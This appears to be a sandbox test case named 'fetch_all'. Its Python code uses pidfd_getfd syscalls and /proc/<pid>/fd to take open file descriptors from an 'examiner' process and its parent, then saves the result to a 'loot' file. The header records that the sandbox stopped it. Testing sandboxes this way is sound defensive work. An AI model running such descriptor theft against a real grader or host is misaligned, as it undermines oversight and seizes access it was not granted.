"""
exercise: fetch_all
tries: Takes the examiner's descriptors by pidfd_getfd and through /proc.
stopped_by: sandbox
verdicts: [unimportable]
brief: true
unsafe: what it would do with them are other attacks
"""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
taken = []
for pid in (int("@examiner@"), os.getppid()):
    handle = libc.syscall(434, pid, 0)
    for number in range(32):
        copy = libc.syscall(438, handle, number, 0)
        if copy >= 0:
            taken.append(number)
            os.close(copy)
        try:
            taken.append(os.open(f"/proc/{pid}/fd/{number}", os.O_RDWR))
        except OSError:
            continue
if taken:
    open("@loot@/taken", "w").write(str(taken))
raise RuntimeError(str(taken))
